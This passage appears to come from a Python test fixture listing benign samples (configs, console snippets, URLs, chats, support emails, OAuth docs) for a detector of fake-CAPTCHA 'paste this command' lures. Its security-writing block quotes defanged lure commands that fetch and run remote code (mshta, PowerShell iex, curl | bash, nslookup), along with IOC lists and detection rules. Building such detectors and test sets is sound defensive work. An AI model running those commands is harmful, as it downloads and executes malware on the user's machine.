        'resource "aws_s3_bucket" "logs" {\n  bucket = "acme-app-logs-prod"\n  tags = {\n    team = "platform"\n    env  = "prod"\n  }\n}',
    ),
    (
        "https://docs.ansible.com/ansible/latest/playbook_guide/playbooks_intro.html",
        "- hosts: webservers\n  become: true\n  tasks:\n    - name: ensure nginx is installed\n      ansible.builtin.apt:\n        name: nginx\n        state: present\n        update_cache: true",
    ),
    (
        "https://eslint.org/docs/latest/use/configure/configuration-files",
        "import js from '@eslint/js';\nexport default [\n  js.configs.recommended,\n  { rules: { 'no-unused-vars': 'warn', eqeqeq: 'error' } },\n];",
    ),
    (
        "https://prettier.io/docs/en/configuration.html",
        '{\n  "semi": false,\n  "singleQuote": true,\n  "trailingComma": "all",\n  "printWidth": 110,\n  "arrowParens": "avoid"\n}',
    ),
    (
        "https://learn.microsoft.com/en-us/aspnet/core/fundamentals/configuration/",
        '{\n  "Logging": { "LogLevel": { "Default": "Information", "Microsoft.AspNetCore": "Warning" } },\n  "ConnectionStrings": { "Default": "Server=sql01;Database=Shop;Trusted_Connection=True;TrustServerCertificate=True" }\n}',
    ),
    (
        "https://docs.gitlab.com/ci/yaml/",
        "stages: [test, deploy]\n\ntest:\n  stage: test\n  image: node:22\n  script:\n    - npm ci\n    - npm test\n\ndeploy:\n  stage: deploy\n  script: ./scripts/deploy.sh\n  only: [main]",
    ),
    (
        "https://www.postgresql.org/docs/current/auth-pg-hba-conf.html",
        "# TYPE  DATABASE  USER      ADDRESS          METHOD\nhost    appdb     app       10.20.0.0/16     scram-sha-256\nhostssl all       all       0.0.0.0/0        scram-sha-256",
    ),
    (
        "https://docs.pi-hole.net/",
        "PIHOLE_DNS_1=9.9.9.9\nPIHOLE_DNS_2=149.112.112.112\nQUERY_LOGGING=true\nBLOCKING_ENABLED=true",
    ),
    (
        "https://wiki.archlinux.org/title/Fstab",
        "UUID=3f1c2a7e-9b0d-4e55-a1c2-7d8e9f0a1b2c  /data  ext4  defaults,noatime  0  2\n//nas/backup  /mnt/backup  cifs  credentials=/root/.smbcred,uid=1000,_netdev  0  0",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/terminal/customize-settings/profile-general",
        '{\n  "name": "Ubuntu",\n  "commandline": "wsl.exe -d Ubuntu-24.04",\n  "startingDirectory": "//wsl$/Ubuntu-24.04/home/maria",\n  "colorScheme": "One Half Dark"\n}',
    ),
    (
        "https://docs.renovatebot.com/configuration-options/",
        '{\n  "extends": ["config:recommended"],\n  "schedule": ["before 6am on monday"],\n  "packageRules": [{ "matchUpdateTypes": ["patch"], "automerge": true }]\n}',
    ),
    (
        "https://vitejs.dev/config/",
        "import { defineConfig } from 'vite'\nimport react from '@vitejs/plugin-react'\n\nexport default defineConfig({\n  plugins: [react()],\n  server: { port: 5173, proxy: { '/api': 'http://localhost:8000' } },\n})",
    ),
    (
        "https://docs.pytest.org/en/stable/reference/customize.html",
        "[pytest]\naddopts = -ra -q --strict-markers\ntestpaths = tests\nmarkers =\n    network: needs the staging API",
    ),
]
for page, text in CONFIG:
    ok("config", UNK, page, text)

CONSOLE = [
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Storage/clear",
        "Object.keys(localStorage).filter(k => k.startsWith('cart:')).forEach(k => localStorage.removeItem(k))",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Document/querySelectorAll",
        "[...document.querySelectorAll('img:not([alt])')].map(i => i.src.split('/').pop())",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Performance/getEntriesByType",
        "performance.getEntriesByType('resource').filter(r => r.duration > 800 && r.initiatorType === 'fetch').map(r => [r.name, Math.round(r.duration)])",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities",
        "copy(JSON.stringify(window.__NEXT_DATA__.props, null, 2))",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities",
        "monitorEvents(document.querySelector('form#signup'), ['submit', 'input'])",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/utilities",
        "$$('a[target=_blank]:not([rel~=noopener])').map(a => a.href)",
    ),
    (
        "https://stackoverflow.com/questions/79240012/list-all-event-listeners",
        "getEventListeners(document.querySelector('.cookie-banner button.accept'))",
    ),
    (
        "https://stackoverflow.com/questions/79241130/find-elements-overflowing",
        "[...document.querySelectorAll('*')].filter(el => el.scrollWidth > document.documentElement.clientWidth)",
    ),
    (
        "https://web.dev/articles/lcp",
        "new PerformanceObserver(l => l.getEntries().forEach(e => console.log('LCP ms', Math.round(e.startTime), e.url || e.element))).observe({type: 'largest-contentful-paint', buffered: true})",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Fetch_API/Using_Fetch",
        "await fetch('/api/v1/health').then(r => r.json())",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Navigator/serviceWorker",
        "(await caches.keys()).filter(k => k.includes('workbox-precache'))",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Document/cookie",
        "document.cookie.split('; ').filter(c => c.startsWith('ab_')).join('\\n')",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Window/matchMedia",
        "getComputedStyle(document.documentElement).getPropertyValue('--brand-primary').trim()",
    ),
    (
        "https://react.dev/learn/react-developer-tools",
        "console.table([...document.querySelectorAll('[data-testid]')].map(e => ({id: e.dataset.testid, tag: e.tagName})))",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Intl/DateTimeFormat",
        "new Intl.NumberFormat('de-CH', {style: 'currency', currency: 'CHF'}).format(1234.5)",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/atob",
        "JSON.parse(atob(localStorage.getItem('jwt').split('.')[1]))",
    ),
    (
        "https://developer.chrome.com/docs/devtools/console/reference",
        "console.time('filter'); const open = orders.filter(o => o.status === 'open'); console.timeEnd('filter')",
    ),
    (
        "https://stackoverflow.com/questions/79243317/scroll-to-bottom-of-page",
        "window.scrollTo({top: document.body.scrollHeight, behavior: 'smooth'})",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/IndexedDB_API",
        "(await indexedDB.databases()).map(d => `${d.name} v${d.version}`)",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Clipboard/writeText",
        "copy([...document.querySelectorAll('table#results tr')].map(tr => [...tr.cells].map(td => td.innerText).join('\\t')).join('\\n'))",
    ),
    (
        "https://stackoverflow.com/questions/79245520/count-words-on-page",
        "document.querySelector('article').innerText.split(/\\s+/).filter(Boolean).length",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/CSS/outline",
        "document.querySelectorAll('*').forEach(el => el.style.outline = '1px solid rgba(255,0,0,.3)')",
    ),
]
for page, text in CONSOLE:
    ok("console-js", CON, page, text)

URLS = [
    (
        "https://www.google.com/search?q=ubuntu+24.04+release+notes",
        "https://discourse.ubuntu.com/t/noble-numbat-release-notes/39890",
    ),
    (
        "https://teams.microsoft.com/",
        "https://teams.microsoft.com/l/meetup-join/19%3ameeting_NzQ2ZTJhOGYtOTIz%40thread.v2/0?context=%7b%22Tid%22%3a%22a1b2%22%7d",
    ),
    ("https://zoom.us/", "https://us06web.zoom.us/j/84729103385?pwd=Yk9xR2h3bTZ2aUp5WnF0"),
    ("https://calendar.google.com/", "https://meet.google.com/qzx-hwmt-pko"),
    (
        "https://mail.google.com/",
        "https://docs.google.com/spreadsheets/d/1bX9kQ2mZ7vR4tYh8LcP0nWq3sE6uJdA5fGiKoLpM2Nc/edit#gid=0",
    ),
    (
        "https://outlook.office.com/",
        "https://contoso.sharepoint.com/:w:/r/sites/Marketing/Shared%20Documents/Q1%20Plan.docx?d=w3f1a&csf=1&web=1",
    ),
    ("https://github.com/", "https://github.com/pallets/flask/pull/5621/files"),
    ("https://news.ycombinator.com/", "https://arxiv.org/abs/2511.04418"),
    (
        "https://www.booking.com/",
        "https://www.booking.com/hotel/at/alpenrose-innsbruck.html?checkin=2027-02-12&checkout=2027-02-15&group_adults=2",
    ),
    ("https://www.amazon.de/", "https://www.amazon.de/dp/B0CX23V2ZK"),
    ("https://slack.com/", "https://acme-eng.slack.com/archives/C04QK2M7B1L/p1733570231004519"),
    ("https://www.youtube.com/", "https://www.youtube.com/watch?v=8aGhZQkoFbQ&t=1180s"),
    ("https://maps.google.com/", "https://maps.app.goo.gl/4xK2bP9wQm7ZrT1n8"),
    ("https://jira.example.org/", "https://acme.atlassian.net/browse/SHOP-4821"),
    (
        "https://portal.azure.com/",
        "https://portal.azure.com/#@contoso.onmicrosoft.com/resource/subscriptions/0000-1111/resourceGroups/rg-prod-weu/overview",
    ),
    (
        "https://console.aws.amazon.com/",
        "https://eu-central-1.console.aws.amazon.com/cloudwatch/home?region=eu-central-1#logsV2:log-groups",
    ),
    (
        "https://www.figma.com/",
        "https://www.figma.com/design/Qx8vLz2nR4tK/Checkout-v3?node-id=12-3401",
    ),
    (
        "https://www.notion.so/",
        "https://www.notion.so/acme/Onboarding-Checklist-5c2e9a1b7d4f4e0a9b8c",
    ),
    ("https://pypi.org/", "https://pypi.org/project/httpx/#history"),
    (
        "https://learn.microsoft.com/",
        "https://learn.microsoft.com/en-us/windows/security/operating-system-security/virus-and-threat-protection/microsoft-defender-smartscreen/",
    ),
    (
        None,
        "https://www.dhl.de/de/privatkunden/pakete-empfangen/verfolgen.html?piececode=00340434161094012345",
    ),
    (None, "https://www.githubstatus.com/history"),
    (None, "192.168.1.1"),
    (None, "http://localhost:5173/admin/orders?page=3"),
    (None, "https://drive.google.com/drive/folders/1Qw8ErTy7UiOp3AsDfGh2JkL4ZxCvBnM"),
    (
        None,
        "https://www.bahn.de/buchung/fahrplan/suche#sts=true&so=M%C3%BCnchen%20Hbf&zo=Berlin%20Hbf",
    ),
    (None, "https://wetransfer.com/downloads/8d2c1f0a9e7b6d5c4b3a20261207/4f3e2d"),
    (None, "https://us02web.zoom.us/rec/share/Xk2pQ9wZ7m.abc123?startTime=1733500000000"),
]
for page, text in URLS:
    ok("url", UNK, page, text)
# addresses typed into the Run box or Explorer: allowed by the spec
for text in [
    "https://intranet.contoso.com/hr/leave",
    "https://outlook.office.com/calendar/view/week",
    "https://portal.office.com",
    "\\\\fs01\\IT\\Software\\Drivers",
]:
    ok("url", RUN, None, text)

# ----------------------------------------------------------------------------------------------
# Security writing that quotes lures: awareness notes, reports, tickets, detection queries
# ----------------------------------------------------------------------------------------------

SEC = [
    (
        "https://intranet.contoso.com/security/awareness/clickfix",
        'Heads-up from IT Security: if a web page ever asks you to press Windows+R, then Ctrl+V and Enter to "prove you are human", close the tab. No real CAPTCHA asks you to run anything. Report it to security@contoso.com with a screenshot.',
    ),
    (
        "https://www.ncsc.gov.uk/blog-post/fake-captcha",
        'What does a fake CAPTCHA look like? It shows a normal "I\'m not a robot" box, then a pop-up with three steps: open the Run dialog, paste, press Enter. The pasted text is usually a PowerShell or mshta command that downloads malware.',
    ),
    (
        "https://unit42.example-research.org/clickfix-2026",
        "In the observed chain the lure copied `mshta hxxps://verify-check[.]test/a.hta` to the clipboard, followed by about 60 spaces and the comment `# I am not a robot - reCAPTCHA Verification ID: 1234` so that only the comment was visible in the Run box.",
    ),
    (
        "https://blog.huntress-style.example/filefix",
        'FileFix moves the same trick into File Explorer: the page tells the user to copy a "file path" and paste it into the address bar. What is actually copied is a PowerShell command, padded with spaces, ending in `# C:\\company\\internal-secure\\filedrive\\HRPolicy.docx`.',
    ),
    (
        "https://detection.fyi/sigmahq/sigma/windows/process_creation/",
        "title: Potential ClickFix Execution via Run Dialog\nlogsource:\n  category: process_creation\n  product: windows\ndetection:\n  selection:\n    ParentImage|endswith: '\\explorer.exe'\n    CommandLine|contains:\n      - 'robot'\n      - 'captcha'\n      - 'verification'\n  condition: selection\nlevel: high",
    ),
    (
        "https://wiki.corp.example/soc/hunting/runmru",
        'DeviceRegistryEvents\n| where RegistryKey has @"\\Explorer\\RunMRU"\n| where RegistryValueData has_any ("powershell", "mshta", "curl", "finger", "captcha", "robot")\n| project Timestamp, DeviceName, RegistryValueData',
    ),
    (
        "https://jira.corp.example/browse/SEC-2291",
        'SEC-2291: user reported a "verify you are human" page on a supplier site. RunMRU shows `powershell -w h -c "iex(irm hxxps://cdn-check[.]test/v)"` at 09:41. Host isolated, no second stage executed (proxy blocked the domain). Closing as contained.',
    ),
    (
        "https://www.microsoft.com/en-us/security/blog/2026/clickfix-trends",
        "Threat actors increasingly instruct targets to open Windows Terminal with Win+X then I, rather than the Run dialog, because many organisations now restrict the Run box. The pasted commands are often hex- or XOR-encoded PowerShell.",
    ),
    (
        "https://www.bleepingcomputer.com/news/security/dns-clickfix/",
        "The new variant uses nslookup to fetch the next stage from a DNS TXT record: the victim runs a command like `nslookup -q=txt example.invalid 203.0.113.7`, and the reply contains the PowerShell that is executed next.",
    ),
    (
        "https://objective-see.example/blog/macos-clickfix",
        "On macOS the lure asks the user to open Terminal through Spotlight and paste a line such as `curl -fsSL hxxps://fake-brew[.]test/install.sh | bash`. The script then asks for the user's password with a fake system dialog.",
    ),
    (
        "https://discord.com/safety/account-security",
        'Never paste anything into your browser\'s developer console because someone asked you to. Scammers use this to steal your account token — a message like "paste this to verify your account" is always a scam.',
    ),
    (
        "https://www.cisa.gov/news-events/news/avoiding-social-engineering-and-phishing-attacks",
        "Tech support scams show a full-screen warning that your computer is infected and give a phone number to call. Microsoft will never display a phone number in an error message. Close the browser with Task Manager if it won't close.",
    ),
    (
        "https://www.ftc.gov/business-guidance/blog/callback-phishing",
        "Callback phishing emails claim you were charged for a subscription (Norton, McAfee, Geek Squad) and ask you to call to cancel. When you call, the 'agent' asks you to install remote access software. Don't call the number in the email.",
    ),
    (
        "https://pushsecurity.com/blog/consentfix",
        "ConsentFix abuses the Azure CLI OAuth flow: the phishing page asks the user to sign in and then paste the resulting `http://localhost:…/?code=…` URL back into the page, which hands the attacker an authorization code.",
    ),
    (
        "https://security.slack.example/channel/soc",
        "FYI for the SOC rotation: today's phishing wave uses fake Booking.com guest complaints. Landing page shows a Cloudflare-style check and copies `cmd /c start /min powershell ...` to the clipboard. Block list updated; please watch for RunMRU alerts.",
    ),
    (
        "https://github.com/SigmaHQ/sigma/issues/5120",
        "The rule misses the variant where carets are inserted into the binary name (`p^o^w^e^r^s^h^e^l^l`). cmd.exe strips the carets before execution, so the process command line in Sysmon still shows them.",
    ),
    (
        "https://www.sans.org/newsletters/ouch/",
        "OUCH! December: Scammers are showing fake error messages in your browser that tell you to 'fix' a problem by copying a command. If a website tells you to paste something into Windows Run, Terminal or PowerShell — stop. It's a trick.",
    ),
    (
        "https://wiki.corp.example/soc/ioc/2026-11",
        "IOC list 2026-11-28 (defanged):\n- hxxps://cloudflare-check[.]test/verify.hta\n- 203.0.113[.]58\n- finger cmd@relay-stage[.]invalid\n- SHA256 4b1d0c2e9f7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0",
    ),
    (
        "https://www.elastic.co/security-labs/clickfix-detection",
        'process where host.os.type == "windows" and event.type == "start" and\n  process.parent.name == "explorer.exe" and process.name in ("powershell.exe", "mshta.exe", "cmd.exe") and\n  process.command_line : ("*robot*", "*captcha*", "*verif*")',
    ),
    (
        "https://www.reddit.com/r/sysadmin/comments/1q0a9z/users_falling_for_fake_captcha/",
        "We disabled the Run dialog via GPO (User Configuration > Administrative Templates > Start Menu and Taskbar > Remove Run menu from Start Menu) after two users pasted fake CAPTCHA commands in one week. Anyone know if FileFix still works when that's set?",
    ),
    (
        "https://attack.mitre.org/techniques/T1204/004/",
        "Adversaries may rely upon a user copying and pasting code in order to gain execution. Users may be subjected to social engineering to get them to copy and paste code directly into a command-line interface.",
    ),
    (
        "https://www.kaspersky.com/blog/filefix-cache-smuggling/",
        "In the cache smuggling variant the page first makes the browser download a file that claims to be a JPEG. The command the victim pastes never touches the network: it searches the browser cache for the marker and extracts a ZIP from the 'image'.",
    ),
    (
        "https://training.corp.example/phishing-quiz/q7",
        'Question 7: A website says "Verification failed. Press Win+R, paste the code and press Enter." What should you do?\n(a) Follow the steps\n(b) Close the page and report it\n(c) Try another browser\nCorrect answer: (b)',
    ),
    (
        "https://www.proofpoint.com/us/blog/threat-insight/clickfix-social-engineering",
        "TA571 and ClearFake clusters both used the technique, sometimes adding `Set-Clipboard -Value ' '` at the end of the script so that the malicious command no longer sits in the clipboard after execution.",
    ),
    (
        "https://mail.corp.example/security-digest",
        "Weekly security digest: 3 blocked ClickFix attempts (all Run-dialog PowerShell), 1 tech support scam pop-up reported by a user in Accounts Payable (fake Microsoft number, no call made), 0 incidents.",
    ),
    (
        "https://github.com/yara-rules/community/issues/88",
        'rule ClickFix_Clipboard_Lure {\n  strings:\n    $a = "I am not a robot" nocase\n    $b = "Verification ID" nocase\n    $c = "powershell" nocase\n  condition:\n    $a and $b and $c\n}',
    ),
    (
        "https://helpdesk.corp.example/kb/0142",
        "KB0142 - What to do if you ran a command from a web page: 1. Disconnect from Wi-Fi / unplug the cable. 2. Do not log in to anything. 3. Call the IT hotline on ext. 4400. 4. Leave the PC switched on so we can investigate.",
    ),
    (
        "https://www.trendmicro.com/en_us/research/26/b/kongtuke-crashfix.html",
        "KongTuke's CrashFix chain installs a browser extension that deliberately crashes the browser; after restart a page claims the crash can be fixed by running a 'recovery command', which is a copy of finger.exe renamed and pointed at the attacker's host.",
    ),
    (
        "https://lists.debian.org/debian-security/2026/11/msg00021.html",
        "Please don't recommend `curl | sh` for our tools in the wiki; point users at the signed apt repository instead. Piping a script from the internet into a root shell skips every verification step we have.",
    ),
    (
        "https://www.sentinelone.com/labs/macos-stealers-2026/",
        "The AMOS-style stager decodes a base64 blob with `base64 -D`, gunzips it and pipes it to `sh`; the second stage uses `osascript` to display a password dialog that looks like a system prompt.",
    ),
]
for page, text in SEC:
    ok("security-writing", UNK, page, text)

# ----------------------------------------------------------------------------------------------
# Genuine support and IT messages with phone numbers, in many languages
# ----------------------------------------------------------------------------------------------

SUPPORT = [
    (
        "https://outlook.office.com/mail/inbox",
        "Hi Maria, your laptop is ready for pickup at the IT desk (2nd floor, room 2.14). If you can't come by before Friday, call me on +44 20 7946 0321 and we'll arrange a courier. Thanks, Tom (IT Service Desk)",
    ),
    (
        "https://outlook.office.com/mail/inbox",
        "Reminder: the planned network maintenance in Building B is tonight from 22:00 to 02:00. Wi-Fi and VPN will be unavailable. For urgent issues call the on-call engineer at +1 312 555 0142.",
    ),
    (
        "https://mail.google.com/mail/u/0/",
        "Guten Tag Herr Becker, Ihr Termin zur Inspektion ist am Dienstag, 15.12., um 8:30 Uhr. Bitte bringen Sie das Serviceheft mit. Bei Rückfragen erreichen Sie uns unter 089 4521 7730. Ihr Autohaus Weber",
    ),
    (
        "https://mail.google.com/mail/u/0/",
        "Bonjour, votre commande n° 4471-220 a été expédiée et sera livrée jeudi entre 9 h et 13 h. Pour modifier le créneau, appelez notre service client au 01 84 88 62 10 (du lundi au vendredi). Cordialement, l'équipe Maison du Lin",
    ),
    (
        "https://outlook.live.com/mail/0/",
        "Hola Lucía, te confirmo la reunión del jueves a las 10:00 en la oficina de Valencia. Si hay algún cambio, llámame al 963 21 44 08. Un saludo, Jorge",
    ),
    (
        "https://outlook.office.com/mail/inbox",
        "Ciao a tutti, da lunedì il numero dell'helpdesk interno cambia: il nuovo interno è 2200, dall'esterno +39 02 8736 2200. Il vecchio numero resterà attivo fino a fine mese.",
    ),
    (
        "https://mail.google.com/mail/u/0/",
        "Olá Ana, a sua consulta de fisioterapia foi remarcada para quarta-feira às 15h. Se não puder comparecer, ligue para a clínica: 21 384 2290. Obrigada!",
    ),
    (
        "https://outlook.office.com/mail/inbox",
        "Beste collega's, de printer op de 3e verdieping is gerepareerd. Bij problemen kun je de facilitaire dienst bellen op 030 274 1100 of een melding maken in TOPdesk.",
    ),
    (
        "https://poczta.onet.pl/",
        "Dzień dobry, przypominamy o wizycie serwisowej kotła w dniu 12.01 w godzinach 10-12. W razie potrzeby zmiany terminu prosimy o kontakt: 22 654 19 80. Pozdrawiamy, Termo-Serwis",
    ),
    (
        "https://mail.yandex.ru/",
        "Здравствуйте! Ваша заявка №58102 принята. Специалист приедет завтра с 14:00 до 16:00. Если время неудобно, позвоните по телефону 8 (495) 212-48-30. С уважением, служба сервиса",
    ),
    (
        "https://mail.google.com/mail/u/0/",
        "Merhaba Ayşe Hanım, kargonuz yarın teslim edilecektir. Teslimat saatini değiştirmek isterseniz 0212 444 0 812 numaralı müşteri hizmetlerimizi arayabilirsiniz. İyi günler.",
    ),
    (
        "https://outlook.office.com/mail/inbox",
        "田中様\nお世話になっております。来週のシステムメンテナンスの件でご連絡いたしました。ご不明な点がございましたら、情報システム部（内線 3310、外線 03-5412-7780）までお問い合わせください。",
    ),
    (
        "https://mail.qq.com/",
        "王经理您好，明天下午两点的供应商会议改到三号会议室。如有变动请致电行政部：010-6552 3187。谢谢！",
    ),
    (
        "https://mail.google.com/mail/u/0/",
        "مرحباً أحمد، تم تأكيد حجزك في الفندق من ١٢ إلى ١٥ يناير. لأي استفسار يمكنك الاتصال بالاستقبال على الرقم 04 331 7000. مع تحياتنا",
    ),
    (
        "https://mail.naver.com/",
        "김민수님, 주문하신 노트북 수리가 완료되었습니다. 서비스센터 방문 전 02-3453-1200으로 연락 주시면 빠르게 안내해 드리겠습니다.",
    ),
    (
        "https://outlook.office.com/mail/inbox",
        "Hej! Ditt nya passerkort är klart att hämta i receptionen. Frågor? Ring säkerhetsavdelningen på 08-562 410 00. Mvh, Fastighet & Säkerhet",
    ),
    (
        "https://outlook.office.com/mail/inbox",
        "Dobrý den, Vaše objednávka č. 20261207 byla odeslána. V případě dotazů volejte zákaznickou linku 225 019 330. Děkujeme za nákup.",
    ),
    (
        "https://teams.microsoft.com/",
        "Hi team, the new IT self-service portal is live at https://it.contoso.com. For anything urgent (locked out, lost laptop) the 24/7 line is still +1 425 882 0090.",
    ),
    (
        "https://mail.google.com/mail/u/0/",
        "Dear guest, thank you for booking with Hotel Alpenrose. Check-in is from 15:00. If you arrive after 22:00, please call the night reception at +43 512 58 44 10 so we can leave your key in the safe.",
    ),
    (
        "https://mail.google.com/mail/u/0/",
        "Your GP surgery: your flu vaccination appointment is on Thursday at 11:20. To cancel or rebook, call 0161 496 0732 or use the NHS App. Please do not reply to this message.",
    ),
    (
        "https://outlook.office.com/mail/inbox",
        "Sehr geehrte Damen und Herren, wegen eines Stromausfalls ist unser Büro heute nur telefonisch erreichbar: 030 2025 4410. Wir bitten um Ihr Verständnis.",
    ),
    (
        "https://mail.google.com/mail/u/0/",
        "Hi Sam, the plumber confirmed Monday 8-10am for the boiler. His number is 07700 900412 if you need to let him in earlier. - Jen",
    ),
    (
        "https://outlook.office.com/mail/inbox",
        "Bonjour à tous, le support informatique sera fermé le 24 décembre après-midi. En cas d'urgence, le numéro d'astreinte est le 04 72 10 30 55.",
    ),
    (
        "https://mail.google.com/mail/u/0/",
        "Your rental car reservation ABX-77120 is confirmed for pick-up at Lisbon Airport on 18 Dec, 10:00. Roadside assistance: +351 21 940 7000 (24 h).",
    ),
    (
        "https://outlook.office.com/mail/inbox",
        "IT notice: we are rolling out Windows 11 24H2 to the Finance floor this week. Your PC will restart once overnight. Questions: servicedesk@contoso.com or ext. 4400 (+31 20 794 4400).",
    ),
    (
        "https://mail.google.com/mail/u/0/",
        "Buongiorno Sig.ra Rossi, le ricordiamo il ritiro degli occhiali da venerdì. Per informazioni: 06 4782 1190. Ottica Centrale",
    ),
    (
        "https://mail.google.com/mail/u/0/",
        "Hello! Your bank branch appointment about the mortgage is confirmed for 14 Jan at 16:30. If you need to change it, call us on 0345 300 0271 or use online banking. We will never ask for your PIN or passwords.",
    ),
    (
        "https://mail.google.com/mail/u/0/",
        "Olá! O técnico da operadora irá instalar a fibra no dia 9 entre 8h e 12h. Dúvidas: 1058 ou (11) 3003-1058. Equipe de Instalação",
    ),
]
for page, text in SUPPORT:
    ok("support-mail", UNK, page, text)

OAUTH = [
    (
        "https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-auth-code-flow",
        "GET https://login.microsoftonline.com/{tenant}/oauth2/v2.0/authorize?\nclient_id=6731de76-14a6-49ae-97bc-6eba6914391e\n&response_type=code\n&redirect_uri=http%3A%2F%2Flocalhost%2Fmyapp%2F\n&response_mode=query\n&scope=offline_access%20https%3A%2F%2Fgraph.microsoft.com%2Fmail.read\n&state=12345",
    ),
    (
        "https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-device-code",
        "The device code flow shows a message like: To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code to authenticate. Your app polls the token endpoint until the user completes sign-in.",
    ),
    (
        "https://developers.google.com/identity/protocols/oauth2/native-app",
        "Loopback IP address: your app listens on http://127.0.0.1:port and the authorization server redirects there with the code in the query string. The redirect URI must be registered as http://127.0.0.1 (any port).",
    ),
    (
        "https://datatracker.ietf.org/doc/html/rfc8252",
        'Native apps that are able to open a port on the loopback network interface without needing special permissions can use the loopback interface to receive the OAuth redirect. Loopback redirect URIs use the "http" scheme.',
    ),
    (
        "https://docs.github.com/en/apps/oauth-apps/building-oauth-apps/authorizing-oauth-apps",
        "POST https://github.com/login/oauth/access_token\nclient_id=Iv1.8a61f9b3a7aba766&client_secret=<secret>&code=<code from the redirect>&redirect_uri=http://localhost:4000/callback",
    ),
    (
        "https://docs.github.com/en/apps/oauth-apps/building-oauth-apps/authorizing-oauth-apps#device-flow",
        "The device flow lets you authorize users for a headless app, such as a CLI tool. The user goes to https://github.com/login/device and enters the user code shown by the app.",
    ),
    (
        "https://oauth.net/2/pkce/",
        "code_verifier = high-entropy random string\ncode_challenge = BASE64URL(SHA256(code_verifier))\nSend code_challenge and code_challenge_method=S256 with the authorization request.",
    ),
    (
        "https://auth0.com/docs/get-started/authentication-and-authorization-flow/authorization-code-flow",
        "After the user authenticates, Auth0 redirects to your callback URL with an authorization code, e.g. https://app.example.com/callback?code=AUTHORIZATION_CODE&state=xyzABC123",
    ),
    (
        "https://stackoverflow.com/questions/79251140/azure-cli-login-localhost-redirect",
        "When `az login` opens the browser it starts a local server on a random port; if the page shows 'connection refused' you can use `az login --use-device-code` instead.",
    ),
    (
        "https://learn.microsoft.com/en-us/cli/azure/authenticate-azure-cli-interactively",
        'az login --tenant contoso.onmicrosoft.com\naz account set --subscription "Production"\naz account show -o table',
    ),
    (
        "https://developers.google.com/oauthplayground/",
        "Step 2: Exchange authorization code for tokens. Authorization code: 4/0Ab_5qll-example-code-from-playground. Click 'Exchange authorization code for tokens'.",
    ),
    (
        "https://docs.spotify.example-dev.org/web-api/tutorials/code-flow",
        "Set the Redirect URI in the dashboard to http://127.0.0.1:8888/callback, then run `npm start` and open http://127.0.0.1:8888 to log in.",
    ),
]
for page, text in OAUTH:
    ok("oauth-docs", UNK, page, text)

# ----------------------------------------------------------------------------------------------
# Chat messages, logs, code and office texts
# ----------------------------------------------------------------------------------------------

CHAT = [
    "can you review my PR before standup? it's just the pagination fix",
    "lunch at 12:30? the new ramen place on Elm St",
    "deploy is done, smoke tests green 🎉",
    "who owns the billing-worker alerts? it paged me 3 times last night",
    "I'm out tomorrow (dentist), back Thursday",
    "fyi the staging DB password rotated, it's in 1Password under 'staging-pg'",
    "does anyone know why `npm ci` is so slow on the runners today?",
    "try clearing the cache: rm -rf node_modules/.cache and restart the dev server",
    "meeting moved to 3pm, same link",
    "+1, ship it",
    "Kannst du mir die Folien bis morgen früh schicken? Danke!",
    "On se retrouve à 18h devant la gare ?",
    "¿Alguien tiene el enlace del documento de vacaciones?",
    "明日の会議は10時からに変更になりました。",
    "I'll pick up the kids today, you do dinner?",
    "the VPN keeps dropping every 10 min, anyone else?",
    "restart the agent: sudo systemctl restart gitlab-runner",
    "happy birthday Priya!! 🎂",
    "Reminder: timesheets due Friday 5pm",
    "just run `make test-fast` locally, the full suite takes ages",
    "ok so the bug only happens when the cart has >20 items, repro steps in the ticket",
    "can someone approve my leave request in Workday? it's been pending a week",
    "new coffee machine on 4th floor ☕ works with the badge",
    "have you tried turning it off and on again 😅",
    "pls don't merge to main until the release branch is cut",
    "the client wants the logo 20% bigger. again.",
    "Call me when you're free: 0176 2210 4455",
    "I shared the Figma file with you, check the 'Checkout v3' page",
    "Grafana dashboard for the API: https://grafana.corp.example/d/api-latency",
    "what's the wifi password for the guest network?",
    "git pull --rebase then push again, someone merged before you",
    "I think it's DNS. It's always DNS.",
    "Je suis en télétravail aujourd'hui, joignable sur Teams",
    "vamos a pedir pizza para el equipo, ¿alguien es vegetariano?",
    "Thanks for covering my on-call shift 🙏",
    "the invoice from Hetzner is in the shared drive under Finance/2026/11",
    "anyone up for a quick retro on the incident? 15 min at 4",
    "Bitte nicht vergessen: Weihnachtsfeier am 18.12. ab 17 Uhr",
    "running late, train is stuck outside Utrecht",
    "Please use the new expense tool from January, the old form is retired",
]
CHAT_PAGES = [
    "https://app.slack.com/client/T01ACME/C02GENERAL",
    "https://teams.microsoft.com/_#/conversations/",
    "https://web.whatsapp.com/",
    "https://discord.com/channels/8841022/1022",
]
for i, text in enumerate(CHAT):
    ok("chat", UNK if i % 3 else "other", CHAT_PAGES[i % len(CHAT_PAGES)], text)

LOGS = [
    '2026-12-07T09:14:22.118Z ERROR [api] request_id=8c1f2a POST /v1/orders 500 in 2314ms: psycopg.OperationalError: connection to server at "db01" (10.20.1.5), port 5432 failed: timeout expired',
    "Dec  7 09:15:01 web01 CRON[22871]: (root) CMD (/usr/local/bin/backup.sh >> /var/log/backup.log 2>&1)",
